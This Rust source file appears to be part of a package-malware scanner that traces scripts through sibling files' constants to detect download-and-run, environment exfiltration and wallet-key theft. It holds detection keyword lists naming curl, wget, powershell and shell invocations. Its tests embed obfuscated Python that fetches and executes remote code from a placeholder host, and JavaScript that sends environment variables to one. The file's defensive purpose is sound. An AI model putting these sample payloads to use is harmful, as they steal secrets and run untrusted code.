//! Scripts that take what they call from constants of other files of their package: what each file gives, and a second
//! look with all of it.

use std::rc::Rc;
use std::sync::{Arc, LazyLock};

use super::event::{Act, Event, When};
use super::flows;
use super::glance::Worth;
use super::machine::{Machine, Outcome};
use super::siblings::Siblings;
use super::value::{HOLE, Labels};
use crate::analyze::Notes;
use crate::model::fact::{Constants, ImportableFile, Literal, UnfinishedScript};
use crate::model::{Evidence, Fact, FactKind, FileKind, Finding, Severity};
use crate::parse::Parsed;
use crate::parse::finder::Finder;
use crate::parse::script::{Language, read};

/// Longest script in bytes that is looked at again, and longest that gives constants.
const MAX_UNFINISHED: usize = 128 << 10;
const MAX_GIVING: usize = 256 << 10;

/// Longest script in which nothing acts that is kept for those that import it, the deepest that lies in a package itself, and
/// folders in which others' packages lie.
const MAX_IMPORTED: usize = 64 << 10;
const MAX_DEPTH: u8 = 4;
const FOREIGN: &[&str] = &["node_modules/", "site-packages/"];
/// Why what stands in several files, and only runs when somebody calls it, is for people to look at.
const CALLED: &str = "only when somebody calls it";
/// As many scripts of the same length may be gone through from one.
const FILES_OF_A_SCRIPT: usize = 8;

/// Longest data file whose lists are given to scripts, and the longest text that stands for a number in them.
const MAX_DATA: usize = 64 << 10;
const NUMBER: usize = 6;
/// Fields of it that are looked at, fewest elements of a list, and shortest text.
const DATA: usize = 64;
const FEWEST: usize = 16;
const LONG: usize = 64;

/// Kinds of data beside JSON that scripts read, the longest such file in bytes, the longest small table, and the shortest run
/// without blanks that somebody may decode.
pub(super) const DATA_KINDS: &[FileKind] =
    &[FileKind::Text, FileKind::Svg, FileKind::Css, FileKind::Xml, FileKind::Ini, FileKind::Yaml, FileKind::Toml];
const MAX_READ: usize = 16 << 10;
const TABLE: usize = 4 << 10;
const RUN: usize = 96;

/// Gives what a file of data holds that a script could make text of: lists of numbers, and long texts without blanks.
pub(super) fn give_data(bytes: &[u8], out: &mut Notes) {
    if bytes.len() > MAX_DATA {
        return;
    }
    let Ok(serde_json::Value::Object(fields)) = serde_json::from_slice(bytes) else { return };
    let number = |v: &serde_json::Value| match v {
        serde_json::Value::Number(n) => n.as_i64().map(Literal::Number),
        serde_json::Value::String(s) if s.len() <= NUMBER => Some(Literal::Text(s.as_str().into())),
        _ => None,
    };
    for (name, value) in fields.iter().take(DATA) {
        let literal = match value {
            serde_json::Value::Array(items) if items.len() >= FEWEST => {
                items.iter().map(number).collect::<Option<Vec<_>>>().map(|l| Literal::List(l.into()))
            }
            serde_json::Value::String(s) if s.len() >= LONG && !s.contains(' ') && !s.contains("://") => {
                Some(Literal::Text(s.as_str().into()))
            }
            _ => None,
        };
        if let Some(literal) = literal {
            out.facts.push(Fact::whole(FactKind::Constant(name.as_str().into(), Box::new(literal))));
        }
    }
}

/// Keeps the text of a file that others of its package may import: short scripts, and data with a text that somebody may
/// decode.
pub(super) fn give_text(file: &Parsed<'_>, outcome: Option<&Outcome>, out: &mut Notes) {
    let kind = file.kind();
    let bytes = file.text();
    let language = Language::of_file(kind, file.base_name());
    let is_script = matches!(language, Some(Language::Python | Language::JavaScript)) || language.is_some_and(is_light);
    let is_data = kind == FileKind::Json && out.facts.iter().any(|f| matches!(f.kind, FactKind::Constant(..)))
        || is_read_by_scripts(kind, file.base_name(), bytes);
    let longest = if is_data || outcome.is_some() { MAX_UNFINISHED } else { MAX_IMPORTED };
    let name = &file.artifact().name;
    let is_elsewhere = name.ends_with(".d.ts") || FOREIGN.iter().any(|folder| name.contains(folder));
    if !(is_script || is_data)
        || bytes.is_empty()
        || bytes.len() > longest
        || file.artifact().depth > MAX_DEPTH
        || is_elsewhere
    {
        return;
    }
    let Ok(text) = std::str::from_utf8(bytes) else { return };
    let does = |acts: &[Act]| outcome.is_some_and(|o| o.events.iter().any(|e| acts.contains(&e.act)));
    let said = Said::of(bytes);
    let importable = ImportableFile {
        kind,
        text: text.into(),
        executes: does(&[Act::Eval, Act::Load, Act::Inject])
            || outcome.is_some_and(|o| o.events.iter().any(gives_code)),
        reaches: does(&[Act::Send, Act::Fetch, Act::Connect, Act::Lookup]),
        nameless: outcome.is_some_and(|o| o.nameless || o.events.iter().any(executes_what_others_name)),
        keys: said.is(Says::Keys) && said.is(Says::OfWallets),
        hooks: outcome.is_some_and(|o| !o.hooks.is_empty()) || said.is(Says::Replaces),
        mails: bytes.len() <= MAX_IMPORTED && said.is(Says::Mails),
        asks: said.is(Says::Asks),
        compares: said.is(Says::Hides),
        builds: kind == FileKind::Python && said.is(Says::Builds),
        seals: said.is(Says::Seals),
        lists: said.is(Says::Lists),
        changes: said.is(Says::Changes),
    };
    out.facts.push(Fact::whole(FactKind::Importable(Arc::new(importable))));
}

/// Languages whose files have one space of names, or are put together by the text that names them.
pub(super) fn is_light(language: Language) -> bool {
    matches!(
        language,
        Language::Ruby
            | Language::Php
            | Language::Lua
            | Language::Perl
            | Language::Shell
            | Language::Rust
            | Language::Go
    )
}

/// Whether an interpreter of the script's own language is started with code that is not known here.
fn gives_code(event: &Event) -> bool {
    event.act == Act::Run
        && event.subject.as_deref().is_some_and(|command| {
            let own =
                ["process.execPath", "sys.executable", "node ", "python"].iter().any(|own| command.starts_with(own));
            let code = command.split_once(" -e ").or_else(|| command.split_once(" -c ")).map(|(_, code)| code);
            own && code.is_some_and(|code| code.contains(HOLE))
        })
}

/// Whether a function executes what it is called with, or what it reads: its callers, or other files, know what that is; or
/// starts what a function of another file gives.
fn executes_what_others_name(event: &Event) -> bool {
    let named = Labels::PARAMETER.with(Labels::FILE).with(Labels::OWN_FILE);
    if event.act == Act::Run && event.layer == 0 {
        return event.subject.as_deref().is_some_and(|command| command.starts_with('.') && command.contains("()"));
    }
    event.act == Act::Eval && event.when == When::Called && event.layer == 0 && event.of.any(named)
}

/// Whether a file of data is small and may be a table of a script's own, or holds something that a script decodes.
fn is_read_by_scripts(kind: FileKind, name: &str, bytes: &[u8]) -> bool {
    /// What tools of the trade read, and not the package itself.
    const OF_TOOLS: &[&str] =
        &["package.json", "package-lock.json", "composer.json", "manifest.json", "bower.json", "lerna.json", "nx.json"];
    match kind {
        FileKind::Json => bytes.len() <= TABLE && !OF_TOOLS.contains(&name) && !name.starts_with("tsconfig"),
        kind if DATA_KINDS.contains(&kind) => {
            bytes.len() <= MAX_READ && std::str::from_utf8(bytes).is_ok_and(holds_long)
                || bytes.len() <= TABLE && !is_read_by_people(name) && ACTING.find_iter(bytes).next().is_some()
        }
        _ => false,
    }
}

/// What stands in settings that are commands, code or addresses.
static ACTING: LazyLock<Finder> = LazyLock::new(|| Finder::new(ACTS));
const ACTS: &[&str] = &[
    "://",
    "import ",
    "exec(",
    "eval(",
    "curl ",
    "wget ",
    "powershell",
    "socket",
    "system",
    "subprocess",
    "bash ",
    "sh -c",
    "cmd /c",
    "python",
];

/// Whether a file is for people, or for the tools of the trade, by its name.
fn is_read_by_people(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let stems = [
        "readme",
        "license",
        "licence",
        "copying",
        "notice",
        "changelog",
        "changes",
        "history",
        "authors",
        "contributing",
        "requirements",
        "top_level",
        "entry_points",
        "sources",
        "setup.cfg",
        "pyproject",
        "tox",
        "cargo",
    ];
    stems.iter().any(|stem| name.starts_with(stem))
}

/// Whether a text holds a long run without blanks and quotes, which somebody may decode.
#[must_use]
pub fn holds_long(text: &str) -> bool {
    let mut run = 0;
    text.bytes().any(|byte| {
        let is_end = byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'`');
        run = if is_end { 0 } else { run + 1 };
        run >= RUN
    })
}

/// What a word in the text of a script says of it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Says {
    /// Functions may be put in the place of those of a client: nobody has to reach the network for that.
    Replaces,
    /// What the surroundings are is asked.
    Asks,
    /// A list may be held that is not to be read.
    Hides,
    /// It speaks of keys, and of the wallets they are for.
    Keys,
    OfWallets,
    /// Mail is sent.
    Mails,
    /// A distribution is built: functions that `pip` calls (PEP 517), and a class of Hatchling's.
    Builds,
    /// Something is encrypted; folders are gone through; files are written over, renamed or deleted.
    Seals,
    Lists,
    Changes,
}

/// The words, and what each of them says.
const WORDS: &[(Says, &[&str])] = &[
    (
        Says::Replaces,
        &[
            "setattr(",
            "defineProperty(",
            ".send =",
            ".send=",
            ".request =",
            ".request=",
            ".fetch =",
            ".fetch=",
            ".post =",
            ".open =",
            ".urlopen =",
            ".write =",
            ".__init__ =",
            ".getpass =",
            ".login =",
            ".sign =",
            ".from_seed =",
            ".from_key =",
            ".fromSecretKey =",
            ".fromSeed =",
        ],
    ),
    (
        Says::Asks,
        &[
            "timeZone",
            "getTimezoneOffset",
            "tzname",
            "LC_ALL",
            ".LANG",
            "\"LANG\"",
            "'LANG'",
            ".TZ",
            "\"TZ\"",
            "'TZ'",
            "_BASE_URL",
            "getlocale",
            "getdefaultlocale",
            "navigator.language",
            "getLocale(",
            "env.language",
            "USERDNSDOMAIN",
            "GITHUB_REPOSITORY",
            "user.email",
            "remote.origin",
            "networkInterfaces",
            "getnode(",
            "hostname(",
            "getfqdn(",
            "getuser(",
            "getlogin(",
            "userInfo(",
        ],
    ),
    (
        Says::Hides,
        &[
            "createHash",
            "Math.imul",
            "crc32",
            "hashlib",
            "fromCharCode",
            "fromCodePoint",
            "atob(",
            "base64",
            "inflate",
            "b64decode",
            "b85decode",
            "unhexlify",
            "fromhex",
            "decompress",
            "rot13",
            "rot_13",
            // Letters that are taken for others.
            "\\u2009",
            "\\u202f",
            "\\u2010",
            "\\u2011",
            "\\u200b",
            "\\u2060",
            "\u{2009}",
            "\u{202f}",
            "\u{2010}",
            "\u{200b}",
            "\u{2060}",
        ],
    ),
    (Says::Keys, &["secretKey", "secret_key", "privateKey", "private_key", "mnemonic", "seedPhrase", "seed_phrase"]),
    (
        Says::OfWallets,
        &[
            "bs58",
            "base58",
            "ed25519",
            "secp256k1",
            "bip39",
            "tweetnacl",
            "solders",
            "solana",
            "ethers",
            "web3",
            "eth_account",
        ],
    ),
    (Says::Mails, &["sendMail("]),
    (
        Says::Seals,
        &[
            "createCipheriv",
            "publicEncrypt(",
            "subtle.encrypt",
            "secretbox(",
            "Fernet(",
            "AES.new(",
            "AESGCM(",
            "ChaCha20",
            "SecretBox(",
        ],
    ),
    (Says::Lists, &["readdir", "opendir(", "os.walk(", "rglob(", "iglob(", "glob.glob(", "scandir(", "listdir("]),
    (
        Says::Changes,
        &[
            "writeFile",
            ".write_bytes(",
            ".write_text(",
            "open(",
            "unlink",
            "rmSync(",
            ".rm(",
            "os.remove(",
            "rmtree(",
            "rename",
            "truncate",
        ],
    ),
    (Says::Builds, &["def build_wheel(", "def build_sdist(", "def build_editable(", "(BuildHookInterface)"]),
];

/// What a text says, found in one pass.
struct Said(Vec<Says>);

impl Said {
    fn of(bytes: &[u8]) -> Self {
        static SEARCH: LazyLock<(Finder, Vec<Says>)> = LazyLock::new(|| {
            let all = || WORDS.iter().flat_map(|(says, words)| words.iter().map(|word| (word, *says)));
            (Finder::new(all().map(|(word, _)| word)), all().map(|(_, says)| says).collect())
        });
        let (search, says) = &*SEARCH;
        let mut found = Vec::new();
        for hit in search.find_iter(bytes) {
            if let Some(says) = says.get(hit.word).filter(|says| !found.contains(*says)) {
                found.push(*says);
            }
        }
        Self(found)
    }

    fn is(&self, says: Says) -> bool {
        self.0.contains(&says)
    }
}

/// What a file gives to the others of its package.
pub(super) fn give(kind: FileKind, text: &str, outcome: &Outcome, out: &mut Notes) {
    if !matches!(Language::of(kind), Some(Language::Python | Language::JavaScript)) {
        return;
    }
    if text.len() <= MAX_GIVING {
        let constants = outcome.constants.iter();
        out.facts.extend(
            constants.map(|(name, value)| Fact::whole(FactKind::Constant(name.clone(), Box::new(value.clone())))),
        );
    }
    if outcome.unnamed > 0 && text.len() <= MAX_UNFINISHED {
        let script = UnfinishedScript { kind, text: text.into() };
        out.facts.push(Fact::whole(FactKind::Unfinished(Box::new(script))));
    }
}

/// Follows a script again with the constants of its package. What was seen without them is seen again; the caller keeps
/// what is new.
#[must_use]
pub fn follow_again(script: &UnfinishedScript, constants: &Constants, own: &Rc<[Box<str>]>) -> Vec<Finding> {
    let Some(language) = Language::of(script.kind) else { return Vec::new() };
    let reach = super::reach(script.text.len(), Worth::Unfolding);
    let outcome = Machine::new(read(language, &script.text.read()), reach)
        .with_constants(Rc::clone(constants), Rc::clone(own))
        .run();
    let mut found: Vec<Finding> = flows::judge(&outcome, false)
        .iter()
        .map(|flow| {
            flow.finding(Evidence::note(format!("with constants of other files of the package: {}", flow.note)))
        })
        .collect();
    if outcome.cut_off {
        let note = "more steps, or more depth, than a script is followed for with constants of other files";
        found.push(flows::CUT_OFF.finding(Evidence::note(note)));
    }
    found
}

/// What following a script through the files that it imports shows.
#[derive(Debug, Default)]
pub struct Among {
    /// What it does when it is loaded.
    pub findings: Vec<Finding>,
    /// The files through which it was followed.
    pub files: Vec<usize>,
}

/// How a script is followed through the files of its package.
#[derive(Debug, Clone, Copy, Default)]
pub struct How {
    /// Whether functions are followed too that only callers call.
    pub called: bool,
    /// Whether what those do counts by itself.
    pub all: bool,
    /// Whether it runs when something is installed or built.
    pub is_install: bool,
    /// Whether nothing in the files was a part of an attack by itself.
    pub is_plain: bool,
}

/// Follows what a script does when it is loaded, through the files of its package that it imports. With `called` also what
/// becomes of the keys of wallets that are handed to its functions, and what the surroundings choose in them: nobody who
/// calls a library wants to tell the former to others, or knows of the latter.
#[must_use]
pub fn follow_among(siblings: &Rc<Siblings>, file: usize, how: How) -> Among {
    let How { called, all, is_install, is_plain } = how;
    let Some(script) = siblings.get(file).map(Arc::clone) else { return Among::default() };
    let Some(language) = siblings.modules().language(file) else { return Among::default() };
    let reach = super::reach(script.text.len().saturating_mul(FILES_OF_A_SCRIPT), Worth::Reading);
    let text = script.text.read();
    let is_started = text.starts_with("#!") && !is_install;
    let text = match language {
        Language::Rust => siblings.spliced(file, &text),
        Language::Go => siblings.with_package(file, &text),
        _ => text.to_string(),
    };
    let machine = Machine::new(read(language, &text), reach).among(Rc::clone(siblings), file);
    let machine = match () {
        () if siblings.modules().is_program(file) => machine.started(),
        () if is_light(language) && is_install => machine.automatic(),
        () if language == Language::Shell => machine.started(),
        // What others load runs when they do.
        () if is_light(language) => machine.loaded(),
        () => machine,
    };
    let outcome = if called { machine.with_called().run() } else { machine.run() };
    let is_shell = language == Language::Shell;
    let is_of_itself = |flow: &flows::Flow<'_>| {
        flow.event.when > When::Main
            || is_shell && flow.event.when == When::Main
            || [flows::KEY_SENT.id, flows::MAIL_COPIED.id].contains(&flow.rule.id)
    };
    let findings = flows::judge(&outcome, false)
        .iter()
        // What is weak in one file is no stronger over several.
        .filter(|flow| (all || is_of_itself(flow)) && flow.severity.unwrap_or(flow.rule.severity) >= Severity::High)
        .map(|flow| {
            let mut found = flow.finding(Evidence::note(format!("through files that it imports: {}", flow.note)));
            // A part of the package that a function of another starts, as servers start theirs, is looked at where it lies.
            let is_own = flow.event.subject.as_deref().is_some_and(|s| s.contains("{own "));
            if flow.rule.id == flows::STARTS_UNSEEN.id && is_own {
                found.severity = Severity::Medium;
            }
            // Who starts a program has it do what it does; what it looks like is for them to say.
            if !is_of_itself(flow) || is_plain && is_started {
                found.brake = Some(CALLED);
                found.severity = found.severity.min(Severity::High);
            }
            found
        })
        .chain(super::told::covert_among(&outcome, &text))
        .collect();
    Among { findings, files: outcome.files }
}

#[cfg(test)]
mod tests {
    use super::super::machine::Reach;
    use super::*;

    fn constants_of(kind: FileKind, text: &str) -> Constants {
        let language = Language::of(kind).unwrap();
        let outcome = Machine::new(
            read(language, text),
            Reach { fuel: 100_000, more: 0, patience: super::super::PATIENCE_TO_UNFOLD },
        )
        .run();
        Rc::new(outcome.constants.into_iter().collect())
    }

    fn rules(kind: FileKind, text: &str, constants: Constants) -> Vec<&'static str> {
        let script = UnfinishedScript { kind, text: text.into() };
        follow_again(&script, &constants, &Rc::from([Box::from("own")])).iter().map(|f| f.rule.id).collect()
    }

    #[test]
    fn names_come_together_with_what_another_file_holds() {
        let words = "W = [111, 115, 115, 121, 115, 116, 101, 109]";
        let code = "from .words import W as w\nimport urllib.request\nt = ''.join(chr(c) for c in w)\n\
                    getattr(__import__(t[:2]), t[2:])(urllib.request.urlopen('https://h.invalid/x').read().decode())";
        let constants = constants_of(FileKind::Python, words);
        assert_eq!(constants.len(), 1);
        assert!(rules(FileKind::Python, code, Constants::default()).iter().all(|r| *r == "flow-calls-home"));
        assert!(rules(FileKind::Python, code, constants).contains(&"flow-download-run"));

        let places = "const PLACE = ['https', 'collect.invalid', 'POST', 'env'];\nmodule.exports = { PLACE };";
        let code = "const { PLACE } = require('./places');\nconst ask = require(PLACE[0]).request({ host: PLACE[1], method: PLACE[2] });\n\
                    ask.write(JSON.stringify(process[PLACE[3]]));";
        let constants = constants_of(FileKind::JavaScript, places);
        assert!(rules(FileKind::JavaScript, code, constants).contains(&"flow-environment-sent"));
    }

    #[test]
    fn short_and_long_constants_are_kept_where_they_are() {
        assert!(constants_of(FileKind::Python, "A = 1\nB = 'xy'\nC = [1, 2]\nD = [object()] * 9").is_empty());
        assert_eq!(constants_of(FileKind::Python, "A = 'https://h.invalid'\nB = b'abcdef'").len(), 2);
    }
}
